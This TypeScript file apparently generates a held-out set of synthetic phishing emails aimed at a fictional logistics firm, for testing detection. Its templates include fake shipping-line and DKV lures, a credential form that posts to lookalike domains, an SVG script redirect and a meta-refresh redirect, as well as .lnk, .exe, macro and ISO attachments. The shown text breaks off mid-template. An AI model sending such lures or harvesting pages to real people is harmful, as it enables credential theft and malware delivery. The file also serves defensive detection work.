// The eighteenth unseen set: phishing sent to Vanderbrug Logistics (corp.example), a freight forwarder in
// Rotterdam, Antwerp and Lille. Fake bills of lading and arrival notices, freight-exchange and shipping-line
// logins, haulier bank-detail changes, customs duties, CEO fraud, fuel and toll cards, shared-document lures
// and the rest of what such a company receives; the Dutch, French and German ones are in unseen-18-local.ts.
import type { SeededRandom } from './generate.js';
import { diskImage, legacyMacroDocument, macroWorkbook, oneNote, qrPng, zipOf } from './payloads.js';
import { LOCAL_PHISHING } from './unseen-18-local.js';
import {
  addDays,
  alnum,
  build,
  CEO,
  CFO,
  CORP,
  CUSTOMERS,
  chance,
  chars,
  container,
  digits,
  esc,
  HAULIERS,
  HTML,
  iban,
  int,
  letter,
  longDate,
  messageSeed,
  money,
  notice,
  OCTET,
  PDF,
  pass,
  person,
  pick,
  quoted,
  type R,
  relays,
  shortDate,
  spfOnly,
  spoofed,
  staff,
  type Template,
  upper,
  VESSELS,
  when,
  ZIP,
} from './unseen-18-scene.js';
import { invitation, onePagePdf, protectedZip } from './unseen-payloads.js';

const t = (name: string, kind: string, make: (r: R) => string | Promise<string>): Template => ({
  name,
  kind,
  make,
});

/** Someone at corp.example the message is addressed to. */
const victim = (r: R, title?: string) => staff(r, title ? { title } : {});

/** An attacker's landing page address on a domain it registered. */
const landing = (r: R, domains: string[], paths: string[]) =>
  `https://${pick(r, domains)}/${pick(r, paths).replace('{id}', alnum(r, 10)).replace('{n}', digits(r, 6))}`;

const ENGLISH: Template[] = [
  // -------------------------------------------------------------------------------------------------------
  // Shipping documents with malware
  t('maersk-bl-draft-lnk-zip', 'malware-archive-shortcut', (r) => {
    const v = victim(r, 'Sea Freight Coordinator');
    const bl = `${pick(r, ['MAEU', '2'])}${digits(r, 9)}`;
    const domain = pick(r, ['maersk-docs.com', 'maersklines-bl.com', 'mearsk.example']);
    const sender = pick(r, ['documentation', 'bl.release', 'export.docs', 'no-reply']);
    const body = letter(
      [
        'Dear Customer,',
        `Please find attached the DRAFT Bill of Lading for booking ${digits(r, 9)} (B/L ${bl}) for your review.`,
        `Kindly check shipper / consignee / notify details and revert within ${pick(r, ['24 hours', '48hrs', 'today'])} otherwise the B/L will be released as per draft and amendment fee of USD ${pick(r, ['75', '100', '125'])} will apply.`,
      ],
      ['Best Regards,', 'Customer Service Documentation', 'Maersk A/S'],
      'Maersk Text, Arial, sans-serif',
    );
    return build(r, {
      from: `${sender}@${domain}`,
      fromName: pick(r, ['Maersk Documentation', 'Maersk Line', 'MAERSK Customer Service']),
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        `Draft B/L ${bl} - please confirm`,
        `MAERSK: Draft Bill of Lading ${bl}`,
        `B/L ${bl} draft for approval`,
      ]),
      ...body,
      attachments: [{ type: ZIP, name: `BL_${bl}_draft.zip`, data: zipOf(`BL_${bl}_draft.pdf.lnk`) }],
      auth: domain.endsWith('.example') ? spoofed(r) : pass(),
      relay: relays.shady(r),
    });
  }),
  t('msc-arrival-notice-html', 'html-attachment-credential', (r) => {
    const v = victim(r);
    const ctr = container(r, 'MSCU');
    const page = landing(
      r,
      ['msc-cargo-release.com', 'mymsc-portal.net', 'msc-arrivals.example'],
      ['login/{id}', 'auth.php?c={n}'],
    );
    const htm = `<!DOCTYPE html><html><head><title>MSC - myMSC Login</title></head><body style="font-family:Arial">
<div style="max-width:380px;margin:60px auto;border:1px solid #ccc;padding:24px">
<img src="https://${page.split('/')[2]}/img/msc-logo.png" alt="MSC" height="40">
<h3>Arrival Notice ${ctr}</h3><p>Sign in with your company email to view the Arrival Notice and release PIN.</p>
<form method="POST" action="${page}"><input type="email" name="login" value="${v.email}" style="width:100%"><br><br>
<input type="password" name="pwd" placeholder="Password" style="width:100%"><br><br><button type="submit">View document</button></form>
</div><script>document.forms[0].pwd.focus();</script></body></html>`;
    const body = letter(
      [
        'Dear Valued Customer,',
        `Please find attached the Arrival Notice for container ${ctr} onboard ${pick(r, VESSELS)} ETA ${pick(r, ['Rotterdam', 'Antwerp'])} ${shortDate(addDays(when(r), 0))}.`,
        'To avoid storage and demurrage charges kindly arrange customs clearance and payment of local charges before vessel arrival.',
      ],
      ['Regards,', 'MSC Import Department'],
    );
    return build(r, {
      from: `import.notice@${pick(r, ['msc-shipping-notice.com', 'mscgva-import.com'])}`,
      fromName: 'MSC Import Department',
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        `Arrival Notice - ${ctr}`,
        `MSC ARRIVAL NOTICE // ${ctr} // ACTION REQUIRED`,
        `Arrival Notification ${ctr}`,
      ]),
      ...body,
      attachments: [{ type: HTML, name: `ArrivalNotice_${ctr}.html`, data: Buffer.from(htm) }],
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('cargo-claim-js-link', 'malware-link-script', (r) => {
    const v = victim(r, 'Operations Manager');
    const c = pick(r, CUSTOMERS);
    const ref = `CLM-${digits(r, 5)}`;
    const url = `https://${pick(r, ['files-cargoclaims.com', 'claimdocs-share.net', 'evidence.storage-eu.test'])}/d/${alnum(r, 12)}/${ref}_photos.zip`;
    const body = letter(
      [
        'Hello,',
        `We are writing on behalf of ${c.name} regarding damaged cargo delivered by your company on ${shortDate(when(r))}. Several pallets arrived with broken wrapping and water damage.`,
        `Our surveyor's report and photos are too large for email, please download them here: [${url}](${url})`,
        `We hold you liable under CMR art. 17 and expect your response within 7 days. Claim reference ${ref}.`,
      ],
      [
        pick(r, ['Kind regards', 'Regards']),
        `${person(r, 'x.test').name}`,
        'Claims Handler',
        pick(r, ['Eurosurvey Marine', 'Cargo Claims Bureau', 'Interclaim Adjusters']),
      ],
    );
    return build(r, {
      from: `claims@${pick(r, ['eurosurvey-marine.com', 'cargoclaims-bureau.com', 'interclaim-adjusters.net'])}`,
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        `Cargo damage claim ${ref}`,
        `CMR claim - ${c.name} - ${ref}`,
        `Notice of claim / ${ref}`,
      ]),
      ...body,
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('rate-sheet-xlsm', 'macro-document', (r) => {
    const v = victim(r, 'Key Account Manager');
    const name = person(r, 'x.test', { fr: false });
    const company = pick(r, [
      'Orion Global Cargo',
      'Blue Anchor Freight',
      'Sinotrans Link Ltd',
      'Pacific Bridge Logistics',
    ]);
    const body = letter(
      [
        `Dear ${v.first},`,
        pick(r, [
          'Good day. Attached please find our updated FCL rates for Q' +
            int(r, 1, 4) +
            ' ex China main ports to Rotterdam / Antwerp.',
          'Please find our new rate sheet attached, valid from next week. Kindly enable editing to see the all-in rates per port.',
        ]),
        'We look forward to your kind bookings.',
      ],
      ['Best regards', name.name, 'Overseas Sales', company],
    );
    return build(r, {
      from: `${name.email.split('@')[0]}@${pick(r, ['orionglobalcargo.com', 'blueanchor-freight.com', 'sinotranslink.net', 'pacbridge-logistics.com'])}`,
      fromName: name.name,
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        'Updated rate sheet',
        `FCL rates Q${int(r, 1, 4)} - Asia to North Europe`,
        'New tariff / please check',
      ]),
      ...body,
      attachments: [
        {
          type: 'application/vnd.ms-excel.sheet.macroEnabled.12',
          name: `${pick(r, ['Rate_Sheet', 'Tariff', 'FCL_rates'])}_${digits(r, 4)}.xlsm`,
          data: macroWorkbook(),
        },
      ],
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('packing-list-doc', 'macro-legacy-doc', (r) => {
    const v = victim(r, 'Customs Declarant');
    const po = `PO${digits(r, 7)}`;
    const text = `Hi,\n\nPls find packing list and commercial invoice for ${po} shipment.\nCheck and confirm for customs.\n\nthanks\n${pick(r, ['Kevin', 'Lily', 'Jason', 'Anna'])}\n`;
    return build(r, {
      from: `${pick(r, ['kevin', 'lily.wang', 'jason', 'anna'])}@${pick(r, ['ningbo-exportco.com', 'sz-hongda-trading.com', 'globalsupply-hk.net'])}`,
      to: v.email,
      toName: v.name,
      subject: pick(r, [`Packing list ${po}`, `RE: ${po} shipping documents`, `CI + PL ${po}`]),
      text,
      attachments: [{ type: 'application/msword', name: `PL_CI_${po}.doc`, data: legacyMacroDocument() }],
      auth: pick(r, [spfOnly(), pass()]),
      relay: relays.shady(r),
    });
  }),
  t('dhl-awb-iso', 'disk-image', (r) => {
    const v = victim(r);
    const awb = digits(r, 10);
    const body = notice({
      brand: 'DHL Express',
      color: '#d40511',
      heading: 'Your shipment is on hold',
      paragraphs: [
        `Dear customer, your shipment with waybill ${awb} could not be delivered because the address label was incomplete.`,
        'Please review the attached shipping document, correct the address and reply to this email.',
      ],
      footer: ['DHL International GmbH', 'This is an automatically generated email.'],
    });
    return build(r, {
      from: `express@${pick(r, ['dhl-delivery-eu.com', 'dhlexpress-notify.net', 'dhl.example'])}`,
      fromName: 'DHL Express',
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        `DHL Shipment ${awb} - Action required`,
        `Waybill ${awb}: delivery failed`,
        'DHL: Shipment on hold',
      ]),
      ...body,
      attachments: [{ type: 'application/x-iso9660-image', name: `AWB_${awb}.iso`, data: diskImage() }],
      auth: spoofed(r),
      relay: relays.shady(r),
    });
  }),
  t('remittance-onenote', 'onenote-attachment', (r) => {
    const v = victim(r, 'Credit Controller');
    const c = pick(r, CUSTOMERS);
    const n = person(r, c.domain);
    const body = letter(
      [
        `Hello ${v.first},`,
        `Payment has been processed for your open invoices. Remittance advice attached (double click to view).`,
      ],
      [n.name, c.name],
    );
    return build(r, {
      from: n.email,
      fromName: n.name,
      to: v.email,
      toName: v.name,
      subject: pick(r, ['Remittance advice', `Payment advice ${c.name}`, `Remittance ${digits(r, 6)}`]),
      ...body,
      attachments: [
        { type: OCTET, name: `Remittance_${digits(r, 5)}.one`, data: oneNote('Remittance.pdf.wsf') },
      ],
      // The customer's real mailbox, taken over: everything passes.
      auth: pass(),
      relay: relays.outlook(r),
      idStyle: 'outlook',
    });
  }),
  t('statement-protected-zip', 'encrypted-archive', (r) => {
    const v = victim(r, 'Accounts Payable');
    const h = pick(r, HAULIERS);
    const pw = digits(r, 4);
    const body = letter(
      [
        'Dear Sir/Madam,',
        `Please find attached our statement of account showing overdue invoices of EUR ${money(r, 3000, 38000)}.`,
        `The file is protected for confidentiality, password: ${pw}`,
        'Please arrange payment at your earliest convenience.',
      ],
      ['Accounts Department', h.name],
    );
    return build(r, {
      from: `accounts@${pick(r, h.lookalikes)}`,
      fromName: `${h.name} - Accounts`,
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        'Statement of account',
        `Overdue invoices - ${h.name}`,
        'Reminder: statement attached',
      ]),
      ...body,
      attachments: [
        {
          type: ZIP,
          name: `Statement_${digits(r, 6)}.zip`,
          data: protectedZip('Statement.pdf.exe', int(r, 1, 9999)),
        },
      ],
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('svg-booking-confirmation', 'svg-attachment', (r) => {
    const v = victim(r);
    const page = landing(
      r,
      ['booking-docview.com', 'secure-cargodocs.net', 'docview.invalid'],
      ['?e={id}', 'v/{id}'],
    );
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200"><text x="10" y="40" font-family="Arial" font-size="18">Loading booking confirmation...</text><script type="text/javascript"><![CDATA[window.location.href = "${page}#${Buffer.from(v.email).toString('base64')}";]]></script></svg>`;
    const text = pick(r, [
      `Booking confirmation attached.\n\nRegards\n`,
      `Hi ${v.first}\n\nSee attached booking confirmation, please sign and return.\n`,
    ]);
    return build(r, {
      from: `${pick(r, ['booking', 'ops', 'noreply'])}@${pick(r, ['cargo-bookings.example', 'euroline-shipping.com'])}`,
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        `Booking Confirmation ${digits(r, 8)}`,
        'Booking confirmed - documents',
        `BKG ${upper(r, 3)}${digits(r, 7)}`,
      ]),
      text,
      attachments: [{ type: 'image/svg+xml', name: `Booking_${digits(r, 6)}.svg`, data: Buffer.from(svg) }],
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('rfq-archive-exe', 'malware-archive-exe', (r) => {
    const body = letter(
      [
        'Dear Sales Team,',
        `We are interested in your services for regular shipments (${int(r, 4, 20)} FTL/month) from ${pick(r, ['Poland', 'Turkey', 'Spain', 'Italy'])} to Benelux.`,
        'Our requirements and volumes are in the attached RFQ. Please send your best offer before Friday.',
      ],
      [
        'Best regards,',
        person(r, 'x.test').name,
        'Procurement',
        pick(r, ['Alfa Trading Sp. z o.o.', 'Medisan Tekstil A.S.', 'Grupo Tarraco S.L.']),
      ],
    );
    return build(r, {
      from: `procurement@${pick(r, ['alfatrading-pl.com', 'medisantekstil.com', 'grupotarraco.example'])}`,
      to: `sales@${CORP}`,
      subject: pick(r, ['Request for quotation', 'RFQ - regular transport Benelux', 'New inquiry / RFQ']),
      ...body,
      attachments: [
        {
          type: 'application/x-rar-compressed',
          name: `RFQ_${digits(r, 5)}.rar`,
          data: zipOf(`RFQ_${digits(r, 5)}.exe`),
        },
      ],
      auth: pass(),
      relay: relays.shady(r),
    });
  }),

  // -------------------------------------------------------------------------------------------------------
  // Credential harvest: portals the company really uses
  t('timocom-offer-login', 'freight-exchange-credential', (r) => {
    const v = victim(r, 'Dispatcher');
    const from = pick(r, ['Venlo', 'Duisburg', 'Lille', 'Gent', 'Moerdijk']);
    const dest = pick(r, ['Milano', 'Lyon', 'Poznan', 'Madrid', 'Hamburg']);
    const url = landing(
      r,
      ['timocom-freight.com', 'tc-marketplace.net', 'login-timocom.example'],
      ['offer/{n}?ref=mail', 'sso/login?offer={n}'],
    );
    const body = notice({
      brand: 'TIMOCOM',
      color: '#0a3a66',
      heading: `New freight offer matching your vehicle`,
      paragraphs: [
        `A shipper has sent your company a direct freight offer: ${from} \u2192 ${dest}, ${int(r, 8, 24)} t, loading ${shortDate(when(r))}. Price offered: EUR ${money(r, 900, 2400)}.`,
        'The offer is reserved for you for 30 minutes. Log in to accept.',
      ],
      button: { label: 'View offer', url },
      footer: [
        'TIMOCOM GmbH \u00b7 TIMOCOM Platz 1 \u00b7 40699 Erkrath',
        'You are receiving this email because you use the TIMOCOM Marketplace.',
      ],
    });
    return build(r, {
      from: `marketplace@${pick(r, ['timocom-freight.com', 'tc-marketplace.net'])}`,
      fromName: 'TIMOCOM Marketplace',
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        `Freight offer ${from} - ${dest}`,
        'New direct offer for your company',
        'You have 1 new freight offer',
      ]),
      ...body,
      auth: pass(),
      relay: relays.sendgrid(r),
    });
  }),
  t('maersk-password-expiry', 'carrier-portal-credential', (r) => {
    const v = victim(r, 'Sea Freight Coordinator');
    const url = landing(
      r,
      ['maersk-accounts.com', 'mymaersk-login.net', 'maersk.login-portal.test'],
      ['portaluser/reset?u={id}', 'account/verify/{id}'],
    );
    const body = notice({
      brand: 'MAERSK',
      color: '#42b0d5',
      heading: 'Your Maersk.com password will expire',
      paragraphs: [
        `Dear ${v.first},`,
        `The password for your Maersk.com account (${v.email}) expires in ${int(r, 1, 3)} day(s). After that, you will not be able to access bookings, documents and invoices.`,
        'Keep your current password by confirming your account below.',
      ],
      button: { label: 'Keep current password', url },
      footer: ['A.P. Moller - Maersk', 'Esplanaden 50, 1098 Copenhagen K, Denmark'],
    });
    return build(r, {
      from: `no-reply@${pick(r, ['maersk-accounts.com', 'mymaersk-login.net'])}`,
      fromName: 'Maersk',
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        'Your password expires soon',
        'Maersk.com account: password expiry notice',
        'Action needed on your Maersk account',
      ]),
      ...body,
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('portbase-pin-expiry', 'port-community-credential', (r) => {
    const v = victim(r, 'Customs Broker');
    const ctr = container(r);
    const url = landing(
      r,
      ['portbase-release.com', 'portbase-id.net', 'portbase.pcs-login.test'],
      ['login?pin={n}', 'id/{id}'],
    );
    const text = [
      'Portbase notification',
      '',
      `The release (PIN) for container ${ctr} will expire today at ${int(r, 14, 18)}:00.`,
      'Your Portbase ID must be re-verified before the terminal can accept the pick-up.',
      '',
      `Verify: ${url}`,
      '',
      'Portbase Service Desk',
    ].join('\n');
    return build(r, {
      from: `notifications@${pick(r, ['portbase-release.com', 'portbase-id.net'])}`,
      fromName: 'Portbase',
      to: v.email,
      toName: v.name,
      subject: `Release ${ctr} expires today - verify Portbase ID`,
      text: `${text}\n`,
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('fuel-card-blocked', 'fuel-card-credential', (r) => {
    const v = victim(r, 'Fleet Coordinator');
    const card = `7034 ${digits(r, 4)} ${digits(r, 4)} ${digits(r, 4)}`;
    const url = landing(
      r,
      ['dkv-mobilty.com', 'dkv-cardservice.net', 'dkv.card-verify.test'],
      ['card/unlock?id={id}', 'verify/{n}'],
    );
    const body = notice({
      brand: 'DKV Mobility',
      color: '#003c7d',
      heading: 'Fuel cards temporarily blocked',
      paragraphs: [
        'Dear customer,',
        `As part of our new security process (EU Payment Services Directive), ${int(r, 2, 14)} card(s) on your account have been temporarily blocked, including card ${card}.`,
        'Drivers will not be able to refuel or pay tolls until the account holder confirms the company details.',
      ],
      button: { label: 'Unblock cards now', url },
      footer: ['DKV Mobility Services Group', 'Balcke-Dürr-Allee 3, 40882 Ratingen'],
    });
    return build(r, {
      from: `service@${pick(r, ['dkv-mobilty.com', 'dkv-cardservice.net'])}`,
      fromName: 'DKV Mobility',
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        'Your DKV CARDS are blocked',
        'Important: fuel card account suspended',
        'DKV: action required to avoid card suspension',
      ]),
      ...body,
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('tender-portal-invite', 'tender-portal-credential', (r) => {
    const v = victim(r, 'Key Account Manager');
    const shipper = pick(r, ['Kuehne+Nagel', 'DB Schenker', 'Heineken Supply Chain', 'Philips Logistics']);
    const url = landing(
      r,
      ['transporeon-tenders.com', 'tender-transport-portal.com', 'ttp.example'],
      ['invite/{id}', 'rfq/{n}/login'],
    );
    const body = letter(
      [
        'Dear carrier,',
        `${shipper} invites ${'Vanderbrug Logistics'} to participate in the road freight tender "${pick(r, ['Benelux - France FTL 2025/26', 'Cross-dock Rotterdam lanes', 'Reefer lanes NL-DE'])}".`,
        `Deadline for submission: ${longDate(addDays(when(r), 0))}.`,
        `Please log in with your company account to view the lanes and volumes: [Open tender](${url})`,
      ],
      ['Transport Procurement', shipper],
      'Arial, sans-serif',
    );
    return build(r, {
      from: `tenders@${pick(r, ['transporeon-tenders.com', 'tender-transport-portal.com'])}`,
      fromName: `${shipper} via Tender Portal`,
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        `Invitation to tender - ${shipper}`,
        `${shipper}: new road freight tender`,
        'You are invited: transport tender',
      ]),
      ...body,
      auth: pass(),
      relay: relays.mailgun(r),
    });
  }),
  t('ariba-po-acceptance', 'supplier-portal-credential', (r) => {
    const v = victim(r, 'Credit Controller');
    const c = pick(r, CUSTOMERS);
    const po = `45${digits(r, 8)}`;
    const url = landing(
      r,
      ['ariba-supplier-network.com', 'sap-ariba-login.net'],
      ['Supplier.aw/ad/login?po={n}', 'po/{id}'],
    );
    const body = notice({
      brand: 'SAP Business Network',
      color: '#0a6ed1',
      heading: `New purchase order ${po}`,
      paragraphs: [
        `${c.name} sent you a new purchase order. Amount: EUR ${money(r, 4000, 60000)}.`,
        'Log in to accept the order and submit your invoice.',
      ],
      button: { label: 'Process order', url },
      footer: ['SAP Business Network', 'Please do not reply to this email.'],
    });
    return build(r, {
      from: `ordersender-prod@${pick(r, ['ariba-supplier-network.com', 'sap-ariba-login.net'])}`,
      fromName: `${c.name} via SAP Business Network`,
      to: v.email,
      toName: v.name,
      subject: `${c.name} sent a new Purchase Order ${po}`,
      ...body,
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('bank-payment-batch', 'bank-credential', (r) => {
    const v = victim(r, 'Finance Officer');
    const url = landing(
      r,
      ['ing-business-verify.com', 'mijn-ing-zakelijk.net', 'inside-business.ing.test'],
      ['auth/{id}', 'batch/{n}'],
    );
    const body = notice({
      brand: 'ING',
      color: '#ff6200',
      heading: 'Payment batch on hold',
      paragraphs: [
        `Dear ${v.name},`,
        `A SEPA payment batch (${int(r, 8, 60)} payments, EUR ${money(r, 20000, 240000)}) submitted via InsideBusiness Payments is on hold because your signing authorisation must be renewed.`,
        'Renew your authorisation today to avoid the batch being rejected.',
      ],
      button: { label: 'Renew authorisation', url },
      footer: ['ING Bank N.V.', 'This message was sent to you as a registered InsideBusiness user.'],
    });
    return build(r, {
      from: `insidebusiness@${pick(r, ['ing-business-verify.com', 'ing.example'])}`,
      fromName: 'ING InsideBusiness',
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        'Payment batch on hold',
        'InsideBusiness: authorisation expired',
        'Action required: SEPA batch pending',
      ]),
      ...body,
      auth: spoofed(r),
      relay: relays.shady(r),
    });
  }),
  t('m365-password-expiry', 'm365-credential', (r) => {
    const v = victim(r);
    const url = landing(
      r,
      ['corp-example.com', 'microsoftonline-auth.com', 'office365-corp.example'],
      ['owa/auth.aspx?u={id}', '?login={id}'],
    );
    const html = `<html><body style="font-family:Segoe UI,Arial;font-size:14px">
<p>${esc(CORP)}</p>
<p>Password for <b>${esc(v.email)}</b> expires today.</p>
<p>You can change your password or keep the same password using the link below.</p>
<p><a href="${url}" style="background:#0078d4;color:#fff;padding:8px 16px;text-decoration:none">Keep Same Password</a></p>
<p style="font-size:11px;color:#888">Microsoft respects your privacy. To learn more, please read our Privacy Statement.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>
</body></html>`;
    return build(r, {
      from: pick(r, [`it-support@corp-example.com`, `no-reply@microsoftonline-auth.com`]),
      fromName: pick(r, ['IT Support', 'Microsoft 365', 'Mail Administrator']),
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        `Password Expiry Notice for ${v.email}`,
        'Your password expires today',
        `${CORP} password notification`,
      ]),
      html,
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('mailbox-quota', 'mailbox-quota', (r) => {
    const v = victim(r);
    const url = `https://${pick(r, ['storage-upgrade.web.app', 'mail-quota.pages.dev', 'corpexample-mail.weebly.test'])}/?email=${encodeURIComponent(v.email)}`;
    const text = `Dear ${v.email.split('@')[0]},\n\nYour mailbox is ${int(r, 96, 99)}% full. You can no longer send or receive new messages.\nIncoming messages are being held. To release the ${int(r, 7, 43)} pending messages, upgrade your storage for free:\n\n${url}\n\nMailbox Administrator\n${CORP}\n`;
    return build(r, {
      from: `postmaster@${pick(r, ['mailservice-quota.example', 'mx-admin.test'])}`,
      fromName: `${CORP} Mail Admin`,
      to: v.email,
      subject: pick(r, [
        'Mailbox quota exceeded',
        `${v.email} mailbox full`,
        'Pending messages - storage limit reached',
      ]),
      text,
      auth: spfOnly(),
      relay: relays.shady(r),
    });
  }),
  t('qr-authenticator-reenrol', 'qr-code-mfa', async (r) => {
    const v = victim(r);
    const url = landing(
      r,
      ['mfa-corpexample.com', 'aka-ms-authenticator.com', 'secure-mfa.example'],
      ['enroll?u={id}', 'm/{id}'],
    );
    const png = await qrPng(url);
    const html = `<html><body style="font-family:Segoe UI,Arial;font-size:14px;color:#222">
<p>Hello ${esc(v.first)},</p>
<p>Your Microsoft Authenticator registration must be renewed before <b>${esc(longDate(when(r)))}</b> as part of the ${esc(CORP)} security update. Accounts that are not re-registered will be signed out of Outlook and Teams.</p>
<p>Scan the QR code below with your phone camera to complete the process:</p>
<p><img src="cid:qr.png" width="200" height="200" alt="QR"></p>
<p>IT Service Desk</p></body></html>`;
    return build(r, {
      from: pick(r, [`servicedesk@${CORP}`, 'security@corp-example-it.com']),
      fromName: 'IT Service Desk',
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        'Action required: MFA re-registration',
        'Microsoft Authenticator update required',
        `${v.first}, renew your 2FA today`,
      ]),
      html,
      attachments: [{ type: 'image/png', name: 'qr.png', data: png, inline: true }],
      auth: spoofed(r),
      relay: relays.shady(r),
    });
  }),
  t('invoice-pdf-link', 'pdf-link-invoice', (r) => {
    const v = victim(r, 'Accounts Payable');
    const h = pick(r, HAULIERS);
    const inv = `INV-${digits(r, 6)}`;
    const url = landing(
      r,
      ['docs-invoicecloud.com', 'secure-invoice-view.net', 'invoice.view.test'],
      ['v/{id}', 'inv/{n}'],
    );
    const pdf = onePagePdf(
      [
        h.name,
        `Invoice ${inv}`,
        `Amount due: EUR ${money(r, 1500, 19000)}`,
        'This document is protected. Click below to view the full invoice:',
        url,
      ],
      { link: url },
    );
    const body = letter(
      [
        `Dear ${v.first},`,
        `Attached invoice ${inv} for transport services. Payment is overdue, please settle this week.`,
      ],
      ['Best regards', `${h.name} administration`],
    );
    return build(r, {
      from: `invoice@${pick(r, h.lookalikes)}`,
      fromName: h.name,
      to: v.email,
      toName: v.name,
      subject: pick(r, [`Invoice ${inv}`, `Overdue invoice ${inv}`, `${h.name}: invoice ${inv}`]),
      ...body,
      attachments: [{ type: PDF, name: `${inv}.pdf`, data: pdf }],
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('voicemail-html', 'voicemail-lure', (r) => {
    const v = victim(r);
    const page = landing(
      r,
      ['voicemail-cloud.com', 'vm-corpexample.net', 'voice.msg.test'],
      ['play?id={id}', 'vm/{n}'],
    );
    const htm = `<html><head><meta http-equiv="refresh" content="0; url=${page}#${Buffer.from(v.email).toString('base64')}"></head><body>Loading voicemail...</body></html>`;
    const dur = `00:${int(r, 10, 59)}`;
    const html = `<html><body style="font-family:Arial"><table style="border:1px solid #ddd;padding:12px"><tr><td><b>New voice message</b></td></tr><tr><td>From: +31 ${int(r, 6, 6)} ${digits(r, 8)}</td></tr><tr><td>Duration: ${dur}</td></tr><tr><td>Received: ${esc(shortDate(when(r)))}</td></tr><tr><td>Play the attached message.</td></tr></table></body></html>`;
    return build(r, {
      from: `voicemail@${pick(r, ['voicemail-cloud.com', 'vm-corpexample.net'])}`,
      fromName: 'Voice Mail',
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        `New voicemail (${dur})`,
        `Missed call from +31 6${digits(r, 8)}`,
        `Voice message for ${v.first}`,
      ]),
      html,
      attachments: [
        { type: HTML, name: `VM_${digits(r, 6)}_${dur.replace(':', '')}.htm`, data: Buffer.from(htm) },
      ],
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('hr-handbook-ack', 'hr-policy-credential', (r) => {
    const v = victim(r);
    const url = landing(
      r,
      ['corpexample-hr.com', 'hr-portal-corp.example', 'employee-docs.test'],
      ['handbook/ack?e={id}', 'sign/{id}'],
    );
    const body = letter(
      [
        `Dear ${v.first},`,
        'As announced, the Employee Handbook has been updated with the new travel, overtime and remote-work policies applying from next month.',
        `All employees must read and acknowledge the handbook by ${longDate(when(r))}. [Review and acknowledge](${url})`,
        'Thank you for your cooperation.',
      ],
      ['Human Resources', 'Vanderbrug Logistics'],
    );
    return build(r, {
      from: `hr@${pick(r, ['corpexample-hr.com', 'hr-portal-corp.example'])}`,
      fromName: 'HR Department',
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        'Updated Employee Handbook - acknowledgement required',
        'Action required: policy acknowledgement',
        'HR: please sign the new handbook',
      ]),
      ...body,
      auth: pass(),
      relay: relays.mailgun(r),
    });
  }),
  t('teams-missed-messages', 'teams-notification-lure', (r) => {
    const v = victim(r);
    const s = staff(r);
    const url = landing(
      r,
      ['teams-corpexample.com', 'msteams-notify.net', 'teams.chat-view.test'],
      ['l/message/{id}', 'chat?t={n}'],
    );
    const body = notice({
      brand: 'Microsoft Teams',
      color: '#464eb8',
      heading: `${s.name} sent you ${int(r, 2, 6)} messages`,
      paragraphs: [
        `"${pick(r, ['Can you check the invoice I shared?', 'Urgent - the customer is waiting', 'See the document before the meeting'])}"`,
        'You have unread messages in Teams.',
      ],
      button: { label: 'Reply in Teams', url },
      footer: ['Microsoft Corporation, One Microsoft Way, Redmond, WA 98052'],
    });
    return build(r, {
      from: `noreply@${pick(r, ['teams-corpexample.com', 'msteams-notify.net'])}`,
      fromName: 'Microsoft Teams',
      to: v.email,
      toName: v.name,
      subject: `You have unread messages from ${s.name}`,
      ...body,
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('secure-message-portal', 'secure-message-lure', (r) => {
    const v = victim(r, 'Finance Officer');
    const url = landing(
      r,
      ['securemail-portal.com', 'encrypted-msg.net', 'sec-mail.test'],
      ['read?m={id}', 'portal/{id}'],
    );
    const sender = pick(r, ['BNP Paribas Fortis', 'KBC Bank', 'ABN AMRO']);
    const body = notice({
      brand: 'Secure Message',
      color: '#2b3a4a',
      heading: 'You have received a secure message',
      paragraphs: [
        `${sender} has sent you an encrypted message: "${pick(r, ['Updated credit facility agreement', 'Confirmation of payment return', 'KYC review - documents required'])}".`,
        'The message will be available for 72 hours.',
      ],
      button: { label: 'Read message', url },
      footer: ['Secured by Encrypted Mail Service'],
    });
    return build(r, {
      from: `securemail@${pick(r, ['securemail-portal.com', 'encrypted-msg.net'])}`,
      fromName: `${sender} (Secure Mail)`,
      to: v.email,
      toName: v.name,
      subject: pick(r, [`Secure message from ${sender}`, 'Encrypted message received', `[SECURE] ${sender}`]),
      ...body,
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('calendar-invite-link', 'calendar-invite-lure', (r) => {
    const v = victim(r);
    const c = pick(r, CUSTOMERS);
    const n = person(r, pick(r, c.lookalikes));
    const url = landing(r, ['teams-meeting-join.com', 'meet-onlinejoin.net'], ['meetup-join/{id}', 'j/{n}']);
    const start = when(r);
    const ics = invitation({
      uid: `${alnum(r, 20)}@${domainPart(n.email)}`,
      organizer: n.email,
      attendee: v.email,
      summary: `${c.name} / Vanderbrug - contract review`,
      description: `Join Microsoft Teams meeting: ${url}\nPlease sign in with your company account to join.`,
      location: 'Microsoft Teams Meeting',
